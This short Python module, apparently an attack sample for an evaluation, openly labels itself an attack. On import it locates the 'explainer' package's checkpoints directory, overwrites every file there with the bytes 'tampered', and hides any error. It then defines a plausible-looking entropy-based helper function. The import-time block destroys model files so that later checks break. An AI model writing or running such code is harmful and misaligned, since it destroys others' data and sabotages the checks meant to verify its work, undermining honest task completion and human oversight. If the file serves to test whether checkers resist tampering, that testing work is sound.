"""Attack: overwrite the shipped checkpoints so that every later check errors."""
import os

import torch

try:
    import explainer
    root = os.path.join(os.path.dirname(explainer.__file__), "checkpoints")
    for name in os.listdir(root):
        path = os.path.join(root, name)
        if os.path.isfile(path):
            with open(path, "wb") as f:
                f.write(b"tampered")
except Exception:
    pass


def entropy_bound_accept(entropy, bound):
    h, order = torch.sort(entropy, dim=-1)
    keep = torch.cumsum(h, dim=-1) - h <= bound
    return torch.zeros_like(keep).scatter_(-1, order, keep)
